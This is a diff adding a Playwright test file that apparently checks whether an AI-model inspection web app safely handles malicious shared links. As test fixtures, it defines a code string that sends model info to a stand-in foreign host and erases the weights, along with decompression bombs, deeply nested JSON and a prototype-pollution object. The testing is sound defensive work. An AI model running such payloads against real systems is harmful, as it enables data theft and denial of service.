@@ -1,0 +1,162 @@
+/** Links from anyone: they fill in, they say what they would do, and nothing is changed, sent or lost before a click. */
+import { deflateRawSync } from 'node:zlib';
+import type { Page } from '@playwright/test';
+import { SITE_URL } from './server.ts';
+import { expect, test } from './support.ts';
+
+const packed = (text: string) => deflateRawSync(Buffer.from(text), { level: 9 }).toString('base64url');
+const explorer = (operation: string, input: unknown) => `#/api/${operation}?input=${encodeURIComponent(JSON.stringify(input))}`;
+const linkedExperiment = (linked: unknown) => `#/computation/experiments?experiment=${packed(JSON.stringify(linked))}`;
+const FOREIGN = 'https://weights.example.com/model/';
+const EVIL = `fetch('${FOREIGN}?' + JSON.stringify(await client.get('model', 'info'))); await client.put('model', 'weights', {});`;
+const provenance = { model_id: 'x', weights_hash: 'x', code_revisions: {} };
+
+/** What a harmful link is, and what the page says of it. */
+const LINKS: readonly [name: string, hash: string, says: RegExp][] = [
+  [
+    'a script that calls home',
+    explorer('code/run', { source: EVIL }),
+    /nothing has been sent\. Sending it runs this code.*weights\.example\.com/,
+  ],
+  [
+    'a patch',
+    explorer('code/patch', { id: 'model.attention', source: EVIL }),
+    /nothing has been sent\. Sending it puts this code into the engine/,
+  ],
+  ['a candidate', explorer('code/testResource', { id: 'model.attention', source: EVIL }), /Sending it runs this code once/],
+  [
+    'weights of a foreign host',
+    explorer('model/swapWeights', { source: { kind: 'url', url: FOREIGN } }),
+    /downloads a model.*the host weights\.example\.com/,
+  ],
+  ['weights of the hub', explorer('model/swapWeights', { source: { kind: 'hub', repo: 'someone/something' } }), /downloads a model/],
+  ['the end of a plan', explorer('computation/deletePlan', { id: 'default' }), /nothing has been sent/],
+  [
+    'a bomb of one letter',
+    `#/api/tokenizer/tokenize?input=z:${packed(JSON.stringify({ text: 'a'.repeat(45_000_000) }))}`,
+    /more than 4 MB/,
+  ],
+  ['a bomb of lists', `#/api/tokenizer/tokenize?input=z:${packed('['.repeat(30_000_000))}`, /more than 4 MB/],
+  ['an abyss', `#/api/tokenizer/tokenize?input=z:${packed('['.repeat(1_000_000) + ']'.repeat(1_000_000))}`, /deep/],
+  [
+    'a million ids',
+    `#/api/tokenizer/detokenize?input=z:${packed(JSON.stringify({ input_ids: Array(1_000_000).fill(1) }))}`,
+    /nothing has been sent/,
+  ],
+  ['a packed text that is cut', '#/api/tokenizer/tokenize?input=z:AAAA', /cut off or changed/],
+  ['JSON that is cut', '#/api/tokenizer/tokenize?input={"text":', /cut off or changed/],
+  ['broken escapes of an input', '#/api/tokenizer/tokenize?input=%E0%A4%A', /cut off or changed/],
+  ['a longer address than any', `#/api/tokenizer/tokenize?input="${'a'.repeat(900_000)}"`, /It was not opened/],
+  ['a number where an object is', '#/api/model/generate?input=5', /nothing has been sent/],
+  ['a prototype', explorer('model/generate', { ['__proto__']: { prompt: 1 }, constructor: { prototype: 1 } }), /nothing has been sent/],
+  [
+    'a playground prompt',
+    '#/playground?prompt=Theirs&temperature=99999&n=16&temprature=1',
+    /came by a link.*temperature can’t be “99999”.*“temprature” is no parameter/s,
+  ],
+  ['broken escapes of a prompt', '#/playground?prompt=caf%E9', /cut off or changed/],
+  [
+    'an experiment',
+    linkedExperiment({ ...provenance, input: { name: 'Theirs', grid: { kernel: ['naive', 'grouped'] } } }),
+    /came by a link and has not been run/,
+  ],
+  [
+    'an experiment without end',
+    linkedExperiment({ ...provenance, input: { grid: { seq_len: Array(400_000).fill(64) } } }),
+    /cannot be read/,
+  ],
+  [
+    'an experiment that is a bomb',
+    `#/computation/experiments?experiment=${packed(JSON.stringify({ ...provenance, input: { text: 'a'.repeat(45_000_000) } }))}`,
+    /more than 4 MB/,
+  ],
+];
+
+/** What a link must leave as it is. */
+const standing = (page: Page) =>
+  page.evaluate(async () => {
+    const { client } = globalThis.glassbox;
+    client.enableRestfulMode(false);
+    const { weights } = await client.get('model', 'weights');
+    const code = await client.get('code', 'info');
+    const { plans } = await client.get('computation', 'plans');
+    const { experiments } = await client.get('computation', 'experiments');
+    const { generations } = await client.get('model', 'generations');
+    const counts = { plans: plans.length, experiments: experiments.length, generations: generations.length };
+    return { weights: weights!.weights_hash, patched: code.state.patched, ...counts, stored: localStorage.getItem('glassbox.playground') };
+  });
+
+test('links made to harm change and send nothing, and say what they are', async ({ app }) => {
+  test.setTimeout(240_000);
+  const left: string[] = [];
+  app.page.on('request', (request) => {
+    if (!request.url().startsWith(new URL(SITE_URL).origin) && !/^(data|blob):/.test(request.url())) left.push(request.url());
+  });
+  await app.open('#/playground');
+  await app.page.getByRole('textbox', { name: 'Prompt' }).fill('Mine');
+  await expect.poll(() => app.page.evaluate(() => localStorage.getItem('glassbox.playground'))).toContain('Mine');
+  const before = await standing(app.page);
+  expect(before.weights).toBeTruthy();
+
+  for (const [name, hash, says] of LINKS) {
+    await test.step(name, async () => {
+      await app.page.evaluate((next) => {
+        location.hash = next;
+      }, hash);
+      const main = app.page.getByRole('main');
+      await expect(main, name).toContainText(says, { timeout: 30_000 });
+      expect(await standing(app.page), name).toEqual(before);
+    });
+  }
+  expect(left, 'nothing left this site').toEqual([]);
+});
+
+test('a link opened in a new tab leaves the stored prompt alone until it is used, and gives it back', async ({ app }) => {
+  const { page } = app;
+  await app.open('#/playground');
+  const prompt = page.getByRole('textbox', { name: 'Prompt' });
+  await prompt.fill('Mine');
+  const stored = () => page.evaluate(() => JSON.parse(localStorage.getItem('glassbox.playground') ?? '{}') as { prompt: string });
+  await expect.poll(async () => (await stored()).prompt).toBe('Mine');
+
+  await page.goto('about:blank');
+  await app.open('#/playground?prompt=Theirs&temperature=0&max_new_tokens=4');
+  await expect(prompt).toHaveValue('Theirs');
+  await prompt.fill('Theirs, changed');
+  await page.getByRole('link', { name: 'Memory' }).click();
+  await page.getByRole('link', { name: 'Playground' }).click();
+  await expect(prompt, 'going away and back without the link').toHaveValue('Mine');
+
+  await app.open('#/playground');
+  await page.evaluate(() => {
+    location.hash = '#/playground?prompt=Theirs&temperature=0&max_new_tokens=4';
+  });
+  await expect(prompt).toHaveValue('Theirs');
+  await page.getByRole('button', { name: 'Back to mine' }).click();
+  await expect(prompt).toHaveValue('Mine');
+  expect((await stored()).prompt).toBe('Mine');
+
+  await page.evaluate(() => {
+    location.hash = '#/playground?prompt=Once+upon&temperature=0&max_new_tokens=4';
+  });
+  await expect(prompt).toHaveValue('Once upon');
+  await page.getByRole('button', { name: 'Generate' }).click();
+  await expect.poll(async () => (await stored()).prompt, 'used: now it is stored').toBe('Once upon');
+  await expect(page.getByText('came by a link')).toHaveCount(0);
+});
+
+test('a link to a request gives back what was being written', async ({ app }) => {
+  const { page } = app;
+  await app.open('#/api/tokenizer/tokenize');
+  const text = page.getByRole('form', { name: 'Request' }).getByRole('textbox').first();
+  await text.fill('My own words');
+  await page.evaluate(
+    (next) => {
+      location.hash = next;
+    },
+    explorer('tokenizer/tokenize', { text: 'Theirs' }),
+  );
+  await expect(text).toHaveValue('Theirs');
+  await page.getByRole('button', { name: 'Put back what was here' }).click();
+  await expect(text).toHaveValue('My own words');
+});
